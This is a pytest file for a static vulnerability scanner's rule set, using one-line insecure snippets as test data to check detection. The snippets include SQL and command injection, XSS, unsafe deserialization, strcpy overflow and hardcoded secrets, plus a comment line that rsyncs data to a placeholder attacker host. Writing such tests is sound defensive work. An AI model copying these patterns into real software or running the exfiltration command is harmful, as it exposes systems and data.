"""Quick rules: the ruleset loads, covers the families across the languages, and obeys the tag lint."""

from __future__ import annotations

import tomllib

import pytest

from ouroboros_gates.decider.instruments import families, load_rules, quick_scan, untagged_symbols, vocabulary
from ouroboros_gates.decider.instruments.base import RULESET
from ouroboros_gates.decider.languages import LANGUAGES
from ouroboros_gates.schemas import State

# One vulnerable line per language and the family its rules must report.
SNIPPETS = {
    "python": ('cur.execute(f"SELECT * FROM t WHERE id = {ident}")', "sql_injection"),
    "javascript": ("el.innerHTML = '<b>' + query;", "xss"),
    "typescript": ("child_process.exec(`ls ${dir}`);", "command_injection"),
    "java": ('String q = "SELECT * FROM t WHERE id = " + id;', "sql_injection"),
    "php": ("$data = unserialize($_COOKIE['prefs']);", "deserialization"),
    "c": ("strcpy(buffer, argv[1]);", "memory_safety"),
    "cpp": ("system(command);", "command_injection"),
}


def test_every_rule_names_a_known_family_and_closed_mechanisms() -> None:
    table = families()
    rules = load_rules()
    assert len({rule.id for rule in rules}) == len(rules)
    for rule in rules:
        assert rule.family in table.ids, rule.id
        assert rule.mechanisms and set(rule.mechanisms) <= set(table.mechanisms), rule.id
        assert 0.0 < rule.precision_estimate <= 1.0
        assert rule.languages <= set(LANGUAGES), rule.id


def test_the_rules_cover_at_least_six_families_and_every_language() -> None:
    rules = [rule for rule in load_rules() if rule.status == "enabled" and not rule.is_prior]
    assert len({rule.family for rule in rules}) >= 8
    for language in LANGUAGES:
        covered = {rule.family for rule in rules if language in rule.languages}
        assert len(covered) >= 5, (language, covered)
    seed_families = {"sql_injection", "command_injection", "path_traversal", "xss", "deserialization"}
    assert seed_families | {"weak_crypto", "hardcoded_secret"} <= {rule.family for rule in rules}


@pytest.mark.parametrize("language", sorted(SNIPPETS))
def test_a_vulnerable_line_of_each_language_is_hit(language: str) -> None:
    line, family = SNIPPETS[language]
    hits, status = quick_scan(language, ("", line))
    assert status.state is State.RAN and status.version
    assert family in {hit.rule.family for hit in hits if hit.line == 2}


def test_a_language_without_rules_is_no_coverage_not_zero_hits() -> None:
    hits, status = quick_scan("cobol", ("MOVE X TO Y.",))
    assert hits == [] and status.state is State.NONE


def test_an_untagged_entry_naming_a_lexicon_symbol_fails_the_lint() -> None:
    assert untagged_symbols(r"\bsend_file\s*\(", tagged=False) == ["send_file"]
    assert untagged_symbols(r"\bsend_file\s*\(", tagged=True) == []
    offenders = [
        (rule.id, untagged_symbols(rule.pattern.pattern, rule.is_prior))
        for rule in load_rules()
        if untagged_symbols(rule.pattern.pattern, rule.is_prior)
    ]
    assert offenders == []


def test_semantic_entries_obey_the_same_lint_and_closed_vocabularies() -> None:
    table = families()
    source_kinds = {"request", "server", "raw_body", "argv_stdin", "other"}
    for path in sorted((RULESET / "semantic").glob("*.toml")):
        raw = tomllib.loads(path.read_text())
        for kind in ("sink", "sanitizer", "source"):
            for entry in raw.get(kind, []):
                tagged = "framework" in entry or "library" in entry
                names = " ".join(entry.get("calls", entry.get("tokens", [])))
                assert untagged_symbols(names, tagged) == [], (path.name, entry["id"])
                if kind == "source":
                    assert entry["kind"] in source_kinds, (path.name, entry["id"])
                else:
                    assert entry["operation"] in table.by_operation, (path.name, entry["id"])
    for language in LANGUAGES:
        assert vocabulary(language), language


def test_priors_are_off_by_default() -> None:
    tagged = {entry.id for entry in vocabulary("python", "all") if entry.tag}
    assert tagged and not tagged & {entry.id for entry in vocabulary("python")}
    assert {e.id for e in vocabulary("python", frozenset({"flask"})) if e.tag} == {
        "path.flask",
        "flask.request",
    }


@pytest.mark.parametrize(
    ("language", "comment"),
    [
        ("python", "    # os.system('rsync /data attacker@host:~/data')"),
        ("java", "     * Runtime.getRuntime().exec(cmd) would run a shell"),
        ("javascript", "  // el.innerHTML = '<b>' + query;"),
        ("c", "/* strcpy(buffer, argv[1]); */"),
        ("php", "# $data = unserialize($_COOKIE['prefs']);"),
    ],
)
def test_a_line_that_is_only_a_comment_is_not_read(language: str, comment: str) -> None:
    code = comment.strip().lstrip("#/* ").rstrip("*/ ")
    assert quick_scan(language, (code,))[0], f"{language}: the rule misses the code itself: {code}"
    assert quick_scan(language, (comment,))[0] == []


# One line each and whether the rule must hit it: the SQL-clause rule wants the value where SQL takes an
# operand, a PHP backtick is a shell where an expression starts (not quoted in a message), the secret rule
# takes a literal (not a placeholder filled later).
ONE_LINE = [
    (
        "python",
        "py-sql-fstring-clause",
        "q = f\"SELECT * FROM t WHERE a = 1 AND name LIKE '%{term}%'\"",
        True,
    ),
    ("python", "py-sql-fstring-clause", 'q = f"SELECT * FROM t ORDER BY {column}"', True),
    (
        "python",
        "py-sql-fstring-clause",
        "cur.execute(f\"SELECT * FROM film where fulltext @@ to_tsquery('{search}')\")",
        True,
    ),
    ("python", "py-sql-fstring-clause", "q = f\"INSERT INTO t (a, b) VALUES ('{a}', '{b}')\"", True),
    (
        "python",
        "py-sql-fstring-clause",
        'raise UsageError(f"Failed to parse arguments as literal values: {app_name!r}.")',
        False,
    ),
    ("python", "py-sql-fstring-clause", 'log.info(f"Could not find a file like {name}")', False),
    ("php", "php-command", "$out = `ls $dir`;", True),
    ("php", "php-command", "echo `cat $file`;", True),
    (
        "php",
        "php-command",
        'throw new InvalidArgumentException("Invalid style `{$style}`. Must be `append` or `prepend`");',
        False,
    ),
    (
        "php",
        "php-command",
        "sprintf('Cache file directory `%s` is not writable', dirname($cacheFile))",
        False,
    ),
    ("python", "py-hardcoded-secret", 'SECRET_KEY = "s3cr3t-value-123"', True),
    ("python", "py-hardcoded-secret", '  SECRET = "%(secret)s";', False),
    ("python", "py-hardcoded-secret", 'token = "{token_value}"', False),
    ("python", "py-hardcoded-secret", 'app.config["SECRET_KEY"] = "sup3r-s3cret-k3y"', True),
    ("python", "py-hardcoded-secret", 'settings = {"api_key": "AKIA0123456789ABCDEF"}', True),
    ("python", "py-hardcoded-secret-compare", 'if password == "letmein123":', True),
    ("python", "py-hardcoded-secret-compare", 'if form["password"] != "Adm1n!pass":', True),
    ("python", "py-hardcoded-secret-compare", 'if password == "":', False),
    ("python", "py-insecure-random", "otp = random.randint(100000, 999999)", True),
    (
        "python",
        "py-insecure-random",
        'reset_token = "".join(random.choice(ALPHABET) for _ in range(32))',
        True,
    ),
    ("python", "py-insecure-random", "colour = random.choice(PALETTE)", False),
    ("python", "py-flask-debug", 'app.run(host="0.0.0.0", debug=True)', True),
    ("python", "py-flask-debug", 'app.config["DEBUG"] = True', True),
    ("python", "py-flask-debug", 'app.run(debug=os.environ.get("DEBUG") == "1")', False),
    ("python", "py-xml-external-entities", "parser.setFeature(feature_external_ges, True)", True),
    ("python", "py-xml-external-entities", "parser = etree.XMLParser(resolve_entities=True)", True),
    ("python", "py-xml-external-entities", "parser.setFeature(handler.feature_external_ges, False)", False),
]


@pytest.mark.parametrize(("language", "rule", "line", "hit"), ONE_LINE)
def test_a_rule_hits_the_code_it_names_and_not_the_text_that_looks_like_it(
    language: str, rule: str, line: str, hit: bool
) -> None:
    hits = [h.rule.id for h in quick_scan(language, (line,))[0]]
    assert (rule in hits) is hit, hits
